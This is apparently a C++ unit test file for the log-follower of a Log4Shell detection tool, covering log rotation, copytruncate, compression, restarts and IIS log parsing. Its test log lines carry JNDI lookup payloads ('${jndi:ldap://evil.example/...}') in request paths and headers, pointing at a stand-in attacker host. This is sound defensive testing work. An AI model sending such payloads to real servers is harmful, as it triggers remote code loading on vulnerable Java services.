#include "follow/follower.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>
#include <thread>

#include "follow/follow_state.h"

namespace l4s::follow {
namespace {

namespace stdfs = std::filesystem;

// The detections are compared by the attack's callback path, unique per line.
std::string attack(const std::string& tag) {
  return "10.0.0.7 - - [10/Dec/2021:12:34:56 +0100] \"GET /?q=${jndi:ldap://evil.example/" + tag +
         "} HTTP/1.1\" 200 1\n";
}

class FollowerTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = stdfs::path(L4S_TEST_TMP) /
           ("follow_" + std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()));
    stdfs::remove_all(dir_);
    stdfs::create_directories(dir_ / "logs");
    out_path_ = (dir_ / "out.jsonl").string();
    open_output();
  }
  void TearDown() override {
    follower_.reset();
    emitter_.reset();
    if (out_fd_ >= 0) ::close(out_fd_);
  }
  void open_output() {
    if (out_fd_ >= 0) ::close(out_fd_);
    out_fd_ = ::open(out_path_.c_str(), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    ASSERT_GE(out_fd_, 0);
    emitter_ = std::make_unique<Emitter>(out_fd_, true);
  }
  FollowOptions options(std::vector<std::string> paths) {
    FollowOptions o;
    o.paths = std::move(paths);
    o.host = "testhost";
    o.output_path = out_path_;
    o.use_inotify = false;
    return o;
  }
  void start(FollowOptions o) {
    follower_ = std::make_unique<Follower>(std::move(o), *emitter_);
    ASSERT_TRUE(follower_->start().ok());
  }
  // A restart: the old follower goes away without saving (as after SIGKILL).
  void restart(FollowOptions o) {
    follower_.reset();
    open_output();
    start(std::move(o));
  }
  std::string log(const std::string& name) const { return (dir_ / "logs" / name).string(); }
  static void append(const std::string& path, const std::string& text) {
    std::ofstream(path, std::ios::app | std::ios::binary) << text;
  }
  // The callback tags of the detections written so far, in order.
  std::vector<std::string> tags() const {
    std::vector<std::string> out;
    std::ifstream in(out_path_);
    std::string line;
    while (std::getline(in, line)) {
      nlohmann::json j = nlohmann::json::parse(line);
      std::string name = j["jndi"]["name"].get<std::string>();
      out.push_back(name.substr(name.rfind('/') + 1));
    }
    return out;
  }
  std::vector<nlohmann::json> detections() const {
    std::vector<nlohmann::json> out;
    std::ifstream in(out_path_);
    std::string line;
    while (std::getline(in, line)) out.push_back(nlohmann::json::parse(line));
    return out;
  }

  stdfs::path dir_;
  std::string out_path_;
  int out_fd_ = -1;
  std::unique_ptr<Emitter> emitter_;
  std::unique_ptr<Follower> follower_;
};

using Tags = std::vector<std::string>;

TEST_F(FollowerTest, StartsAtTheEndThenReportsEachNewLineWithBatchFields) {
  append(log("app.log"), attack("before") + "plain line\n");
  start(options({log("app.log")}));
  follower_->sync();
  EXPECT_EQ(tags(), Tags{});
  append(log("app.log"), "ordinary\n" + attack("a1"));
  follower_->sync();
  ASSERT_EQ(tags(), Tags{"a1"});
  nlohmann::json d = detections()[0];
  EXPECT_EQ(d["type"], "detection");
  EXPECT_EQ(d["host"], "testhost");
  EXPECT_FALSE(d.contains("origin"));
  EXPECT_EQ(d["file"], log("app.log"));
  EXPECT_EQ(d["line"], 4);  // lines before the start are counted
  EXPECT_EQ(d["source_ip"], "10.0.0.7");
  EXPECT_EQ(d["timestamp"], "2021-12-10T11:34:56Z");
  EXPECT_EQ(d["verdict"], "reaches_jndi_2.14");
  // A line still being written waits for its end.
  append(log("app.log"), "10.0.0.7 - - \"GET /${jndi:ldap://evil.example/a2");
  follower_->sync();
  EXPECT_EQ(tags(), Tags{"a1"});
  append(log("app.log"), "} x\"\n");
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"a1", "a2"}));
}

TEST_F(FollowerTest, FromStartAndNewFilesInFoldersButNotCompressedOnes) {
  append(log("a.log"), attack("a0"));
  stdfs::create_directories(dir_ / "logs" / "sub");
  FollowOptions o = options({(dir_ / "logs").string()});
  o.from_start = true;
  start(o);
  EXPECT_EQ(tags(), Tags{"a0"});
  append(log("sub/new.log"), attack("n1"));
  stdfs::create_directories(dir_ / "logs" / "later");
  append(log("later/x.log"), attack("x1"));
  // Compressed content is a rotated archive, whatever its name.
  gzFile gz = gzopen(log("old.log.gz").c_str(), "wb");
  std::string a = attack("gz");
  gzwrite(gz, a.data(), static_cast<unsigned>(a.size()));
  gzclose(gz);
  stdfs::copy_file(log("old.log.gz"), log("archive"));
  follower_->sync();
  Tags t = tags();
  std::sort(t.begin(), t.end());
  EXPECT_EQ(t, (Tags{"a0", "n1", "x1"}));
}

TEST_F(FollowerTest, RenameAndCreateReadsTheOldTailThenTheNewFile) {
  append(log("app.log"), "start\n");
  start(options({log("app.log")}));
  append(log("app.log"), attack("r1"));
  follower_->sync();
  append(log("app.log"), attack("r2"));
  stdfs::rename(log("app.log"), log("app.log.1"));
  append(log("app.log"), attack("r3"));
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"r1", "r2", "r3"}));
  // A writer that has not reopened yet still writes to the old file.
  append(log("app.log.1"), attack("late"));
  append(log("app.log"), attack("r4"));
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"r1", "r2", "r3", "late", "r4"}));
  EXPECT_EQ(detections()[2]["file"], log("app.log"));
  EXPECT_EQ(detections()[2]["line"], 1);
}

TEST_F(FollowerTest, RenameAndCreateInAFolderFollowsBothUnderTheirNewNames) {
  append(log("app.log"), "start\n");
  start(options({(dir_ / "logs").string()}));
  append(log("app.log"), attack("f1"));
  stdfs::rename(log("app.log"), log("app.log.1"));
  append(log("app.log"), attack("f2"));
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"f1", "f2"}));
  EXPECT_EQ(detections()[0]["file"], log("app.log.1"));
  // logrotate's compress step: the rotated file becomes a .gz and goes.
  append(log("app.log.1"), attack("f3"));
  stdfs::rename(log("app.log.1"), log("app.log.1.tmp"));
  stdfs::remove(log("app.log.1.tmp"));
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"f1", "f2", "f3"}));
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"f1", "f2", "f3"}));
}

TEST_F(FollowerTest, CopyTruncateReadsTheCopyFromTheOldOffsetThenTheFileAgain) {
  append(log("app.log"), "start\n");
  start(options({log("app.log")}));
  append(log("app.log"), attack("c1"));
  follower_->sync();
  append(log("app.log"), attack("c2"));
  stdfs::copy_file(log("app.log"), log("app.log.1"));
  stdfs::resize_file(log("app.log"), 0);
  append(log("app.log"), attack("c3"));
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"c1", "c2", "c3"}));
  EXPECT_EQ(detections()[2]["line"], 1);
}

TEST_F(FollowerTest, CopyTruncateInAFolderSeenBetweenTheCopyAndTheTruncation) {
  append(log("app.log"), "start\n");
  start(options({(dir_ / "logs").string()}));
  append(log("app.log"), attack("d1"));
  follower_->sync();
  append(log("app.log"), attack("d2"));
  stdfs::copy_file(log("app.log"), log("app.log.1"));
  follower_->sync();  // the copy exists, the original is not truncated yet
  append(log("app.log"), attack("lost-by-copytruncate"));
  stdfs::resize_file(log("app.log"), 0);
  append(log("app.log"), attack("d3"));
  follower_->sync();
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"d1", "d2", "d3"}));
}

// gzip as logrotate's compress does it: the .gz is written, then the
// original removed.
void gzip_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  std::string data = s.str();
  gzFile gz = gzopen((path + ".gz").c_str(), "wb");
  gzwrite(gz, data.data(), static_cast<unsigned>(data.size()));
  gzclose(gz);
  stdfs::remove(path);
}

// A copytruncate, then a rename and compress of the truncated file (or
// logrotate's compress of the copy), with writes in between: whatever the
// follower did between any two steps (nothing, a read, a SIGKILL and a
// restart from its state), each line is reported exactly once.
TEST_F(FollowerTest, CopyTruncateThenRenameAndCompressInEveryOrder) {
  struct Step {
    const char* what;
    std::function<void()> run;
  };
  auto write = [this](const char* tag) {
    return [this, tag] { append(log("app.log"), attack(tag)); };
  };
  const std::vector<Step> compress_truncated = {
      {"write c2", write("c2")},
      {"copy", [this] { stdfs::copy_file(log("app.log"), log("app.log.1")); }},
      {"truncate", [this] { stdfs::resize_file(log("app.log"), 0); }},
      {"write m1", write("m1")},
      {"rename", [this] { stdfs::rename(log("app.log"), log("app.log.2")); }},
      {"gzip", [this] { gzip_file(log("app.log.2")); }},
      {"write n1", write("n1")},
  };
  const std::vector<Step> compress_copy = {
      {"write c2", write("c2")},
      {"copy", [this] { stdfs::copy_file(log("app.log"), log("app.log.1")); }},
      {"truncate", [this] { stdfs::resize_file(log("app.log"), 0); }},
      {"write m1", write("m1")},
      {"gzip copy", [this] { gzip_file(log("app.log.1")); }},
      {"write m2", write("m2")},
  };
  // Thousands of runs, each syncing its state and output many times: on a
  // tmpfs when there is one (the order of events is tested here, not the
  // durability of the saves).
  std::error_code ec;
  const bool on_tmpfs = stdfs::is_directory("/dev/shm", ec);
  const stdfs::path root =
      on_tmpfs ? stdfs::path("/dev/shm") / ("l4s_follow_orders_" + std::to_string(::getpid())) : dir_;
  int runs = 0;
  std::vector<std::string> failures;
  for (const auto* steps : {&compress_truncated, &compress_copy}) {
    size_t combos = 1;
    for (size_t i = 1; i < steps->size(); ++i) combos *= 3;  // after the last: the final reads
    for (bool folder : {true, false}) {
      for (bool saves_each_sync : {true, false}) {
        for (size_t combo = 0; combo < combos && failures.size() < 10; ++combo) {
          dir_ = root / ("run" + std::to_string(runs++));
          stdfs::create_directories(dir_ / "logs");
          out_path_ = (dir_ / "out.jsonl").string();
          follower_.reset();
          open_output();
          FollowOptions o = options({folder ? (dir_ / "logs").string() : log("app.log")});
          o.state_path = (dir_ / "state.json").string();
          o.state_interval = saves_each_sync ? std::chrono::milliseconds(0) : std::chrono::hours(1);
          o.rotated_grace = std::chrono::milliseconds(0);
          append(log("app.log"), "start\n");
          start(o);
          append(log("app.log"), attack("c1"));
          follower_->sync();
          std::string story = std::string(folder ? "folder" : "file") +
                              (saves_each_sync ? ", saves each sync:" : ", saves when forced:");
          size_t c = combo;
          for (const Step& s : *steps) {
            s.run();
            story += std::string(" ") + s.what;
            if (&s == &steps->back()) break;
            // A kill saves nothing (SIGKILL); the next toggle starts again
            // from the state: every kill point and restart point.
            switch (c % 3) {
              case 0:
                break;
              case 1:
                if (follower_) {
                  follower_->sync();
                  story += ", read";
                }
                break;
              case 2:
                if (follower_) {
                  follower_.reset();
                  story += ", killed";
                } else {
                  open_output();
                  start(o);
                  story += ", started";
                }
                break;
            }
            c /= 3;
          }
          if (!follower_) {
            open_output();
            start(o);
          }
          follower_->sync();
          restart(o);
          follower_->sync();
          Tags got = tags();
          std::sort(got.begin(), got.end());
          Tags want = steps == &compress_truncated ? Tags{"c1", "c2", "m1", "n1"} : Tags{"c1", "c2", "m1", "m2"};
          if (got != want) {
            std::string g;
            for (const auto& x : got) g += " " + x;
            failures.push_back(story + " ->" + g);
          }
          follower_.reset();
          stdfs::remove_all(dir_);
        }
      }
    }
  }
  if (on_tmpfs) stdfs::remove_all(root, ec);
  std::string all;
  for (const auto& f : failures) all += f + "\n";
  EXPECT_TRUE(failures.empty()) << all;
}

// A W3C/IIS log: the header is written (in two goes) before any data, and
// the follower starts at the end of the file. Each detection is the very
// line batch hunt writes for the same file: same columns, same fields.
TEST_F(FollowerTest, W3cHeaderWrittenFirstGivesTheFieldsBatchHuntGives) {
  const std::string path = log("u_ex211210.log");
  append(path, "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n");
  start(options({path}));
  follower_->sync();
  append(path, "#Date: 2021-12-10 11:34:56\n"
               "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
               "cs(User-Agent) cs(X-Forwarded-For) sc-status\n");
  follower_->sync();
  append(path, "2021-12-10 11:34:56 10.0.0.1 GET /index.html q=${jndi:ldap://evil.example/w1} 443 - 203.0.113.9 "
               "Mozilla/5.0 198.51.100.7 200\n");
  follower_->sync();
  append(path, "2021-12-10 11:35:02 10.0.0.1 GET /login - 443 - 203.0.113.10 "
               "${jndi:ldap://evil.example/w2} - 404\n");
  follower_->sync();
  ASSERT_EQ(tags(), (Tags{"w1", "w2"}));

  hunt::FileHunt batch = hunt::hunt_path(path);
  ASSERT_TRUE(batch.status.ok());
  std::string want;
  for (const hunt::Detection& d : batch.detections) want += format_follow_jsonl(d, Provenance{"testhost", ""});
  std::ifstream in(out_path_);
  std::stringstream got;
  got << in.rdbuf();
  EXPECT_EQ(got.str(), want);
  // The columns were known: not a line taken as plain text.
  std::vector<nlohmann::json> d = detections();
  EXPECT_EQ(d[0]["field"], "cs-uri-query");
  EXPECT_EQ(d[1]["field"], "cs(User-Agent)");
  EXPECT_EQ(d[1]["source_ip"], "203.0.113.10");
  EXPECT_EQ(d[0]["forwarded_for"], "198.51.100.7");
}

TEST_F(FollowerTest, AFileThatOnlyStartsLikeAnotherIsItsOwnLog) {
  append(log("a.log"), "=== banner ===\n");
  start(options({(dir_ / "logs").string()}));
  append(log("a.log"), attack("b1"));
  follower_->sync();
  append(log("b.log"), "=== banner ===\n");
  follower_->sync();
  append(log("b.log"), attack("b2"));
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"b1", "b2"}));
}

TEST_F(FollowerTest, DeletedFileIsReadToItsEndAndItsSuccessorFromTheStart) {
  append(log("app.log"), "start\n");
  start(options({log("app.log")}));
  int fd = ::open(log("app.log").c_str(), O_WRONLY | O_APPEND);
  ASSERT_GE(fd, 0);
  std::string a = attack("x1");
  ASSERT_EQ(::write(fd, a.data(), a.size()), static_cast<ssize_t>(a.size()));
  stdfs::remove(log("app.log"));
  a = attack("x2");  // written after the unlink, through the open descriptor
  ASSERT_EQ(::write(fd, a.data(), a.size()), static_cast<ssize_t>(a.size()));
  ::close(fd);
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"x1", "x2"}));
  EXPECT_EQ(follower_->stats().files, 0u);
  append(log("app.log"), attack("x3"));
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"x1", "x2", "x3"}));
}

TEST_F(FollowerTest, SymlinkSwitchedToANewTarget) {
  append(log("a.log"), "start\n");
  stdfs::create_symlink("a.log", log("current"));
  start(options({log("current")}));
  append(log("a.log"), attack("s1"));
  follower_->sync();
  append(log("a.log"), attack("s2"));
  append(log("b.log"), attack("s3"));
  stdfs::create_symlink("b.log", log("current.tmp"));
  stdfs::rename(log("current.tmp"), log("current"));
  follower_->sync();
  EXPECT_EQ(tags(), (Tags{"s1", "s2", "s3"}));
  EXPECT_EQ(detections()[2]["file"], log("current"));
}

TEST_F(FollowerTest, StateResumesExactlyWhereItStopped) {
  FollowOptions o = options({log("app.log")});
  o.state_path = (dir_ / "state.json").string();
  append(log("app.log"), attack("old"));
  start(o);
  append(log("app.log"), attack("k1"));
  follower_->sync();
  ASSERT_TRUE(follower_->save_state().ok());
  append(log("app.log"), attack("k2"));
  restart(o);
  EXPECT_EQ(tags(), (Tags{"k1", "k2"}));
  ASSERT_TRUE(follower_->save_state().ok());
  Result<FollowState> st = load_follow_state(o.state_path);
  ASSERT_TRUE(st.ok());
  ASSERT_EQ(st->files.size(), 1u);
  EXPECT_EQ(st->files[0].offset, stdfs::file_size(log("app.log")));
  EXPECT_EQ(st->files[0].line, 3u);
}

TEST_F(FollowerTest, DetectionsWrittenAfterTheLastSaveAreNotWrittenAgain) {
  FollowOptions o = options({log("app.log")});
  o.state_path = (dir_ / "state.json").string();
  o.state_interval = std::chrono::hours(1);  // only the first save happens
  append(log("app.log"), "start\n");
  start(o);
  append(log("app.log"), attack("w1") + attack("w2"));
  follower_->sync();
  ASSERT_EQ(tags(), (Tags{"w1", "w2"}));
  // Killed now: the state still has the offset before w1.
  append(log("app.log"), attack("w3"));
  restart(o);
  EXPECT_EQ(tags(), (Tags{"w1", "w2", "w3"}));
  EXPECT_EQ(emitter_->skipped(), 2u);
}

TEST_F(FollowerTest, RotatedAndCompressedWhileStoppedTheTailComesFirst) {
  FollowOptions o = options({log("app.log")});
  o.state_path = (dir_ / "state.json").string();
  append(log("app.log"), "start\n");
  start(o);
  append(log("app.log"), attack("z1"));
  follower_->sync();
  ASSERT_TRUE(follower_->save_state().ok());
  follower_.reset();
  // Stopped: more lines, then logrotate with compress, then the new file.
  append(log("app.log"), attack("z2"));
  stdfs::rename(log("app.log"), log("app.log.1"));
  ASSERT_EQ(std::system(("gzip " + log("app.log.1")).c_str()), 0);
  append(log("app.log"), attack("z3"));
  restart(o);
  EXPECT_EQ(tags(), (Tags{"z1", "z2", "z3"}));
  EXPECT_EQ(detections()[1]["file"], log("app.log.1.gz"));
  EXPECT_EQ(detections()[1]["line"], 3);
}

TEST_F(FollowerTest, RenamedOrCopyTruncatedWhileStopped) {
  FollowOptions o = options({log("app.log"), log("other.log")});
  o.state_path = (dir_ / "state.json").string();
  append(log("app.log"), "start\n");
  append(log("other.log"), "other start\n");
  start(o);
  append(log("app.log"), attack("p1"));
  append(log("other.log"), attack("q1"));
  follower_->sync();
  ASSERT_TRUE(follower_->save_state().ok());
  follower_.reset();
  append(log("app.log"), attack("p2"));
  stdfs::rename(log("app.log"), log("app.log.1"));  // rename: same inode elsewhere
  append(log("app.log"), attack("p3"));
  append(log("other.log"), attack("q2"));
  stdfs::copy_file(log("other.log"), log("other.log.1"));  // copytruncate
  stdfs::resize_file(log("other.log"), 0);
  append(log("other.log"), attack("q3"));
  restart(o);
  Tags t = tags();
  std::sort(t.begin(), t.end());
  EXPECT_EQ(t, (Tags{"p1", "p2", "p3", "q1", "q2", "q3"}));
}

TEST_F(FollowerTest, ItsOwnOutputAndStateAreNeverFollowed) {
  FollowOptions o = options({dir_.string()});
  o.state_path = (dir_ / "state.json").string();
  struct stat st;
  ASSERT_EQ(::stat(out_path_.c_str(), &st), 0);
  o.output_dev = st.st_dev;
  o.output_ino = st.st_ino;
  start(o);
  append(log("app.log"), attack("o1"));
  follower_->sync();
  follower_->sync();
  ASSERT_TRUE(follower_->save_state().ok());
  follower_->sync();
  EXPECT_EQ(tags(), Tags{"o1"});
}

// The live loops: they wait for the condition, never for a fixed time.
void run_until(Follower& f, const std::function<bool()>& done) {
  std::thread t([&] { f.run(); });
  auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(60);
  while (!done() && std::chrono::steady_clock::now() < deadline)
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  f.stop();
  t.join();
}

TEST_F(FollowerTest, InotifyWakesTheLoop) {
  FollowOptions o = options({(dir_ / "logs").string()});
  o.use_inotify = true;
  o.poll_interval = std::chrono::hours(1);  // only inotify can wake it in time
  start(o);
  ASSERT_TRUE(follower_->using_inotify());
  std::thread writer([&] {
    append(log("app.log"), attack("i1"));
    append(log("app.log"), attack("i2"));
  });
  run_until(*follower_, [&] { return tags().size() >= 2; });
  writer.join();
  EXPECT_EQ(tags(), (Tags{"i1", "i2"}));
}

TEST_F(FollowerTest, PollingAloneFollowsToo) {
  FollowOptions o = options({(dir_ / "logs").string()});
  o.poll_interval = std::chrono::milliseconds(50);
  start(o);
  ASSERT_FALSE(follower_->using_inotify());
  append(log("app.log"), attack("q1"));
  run_until(*follower_, [&] { return tags().size() >= 1; });
  EXPECT_EQ(tags(), Tags{"q1"});
}

// A SIGKILL inside write() can leave a detection cut at a page boundary
// (the kernel stops between pages for a fatal signal). The next run must cut
// it off before appending, with the output opened as hunt --follow opens it;
// else the next detection is glued to it and both lines are unreadable
// (the e2e SIGKILL test's "1 lines never reported").
TEST(RepairOutputTail, CutsAPartialLastLineOfTheOutputAsOpenedForFollow) {
  const std::string path = std::string(L4S_TEST_TMP) + "/repair_output_tail.jsonl";
  {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out << "{\"a\":1}\n{\"b\":";
  }
  int fd = open_follow_output(path);
  ASSERT_GE(fd, 0);
  Status st = repair_output_tail(fd);
  EXPECT_TRUE(st.ok()) << st.error();
  ASSERT_EQ(::write(fd, "{\"c\":3}\n", 8), 8);
  ::close(fd);
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  EXPECT_EQ(s.str(), "{\"a\":1}\n{\"c\":3}\n");
}

// Where the output cannot be read back, the repair says so (it used to
// return success without looking: pread on an O_WRONLY descriptor fails).
TEST(RepairOutputTail, ReportsAnOutputItCannotRead) {
  const std::string path = std::string(L4S_TEST_TMP) + "/repair_output_tail_wronly.jsonl";
  {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out << "{\"a\":1}\n{\"b\":";
  }
  int fd = ::open(path.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
  ASSERT_GE(fd, 0);
  EXPECT_FALSE(repair_output_tail(fd).ok());
  ::close(fd);
}

}  // namespace
}  // namespace l4s::follow
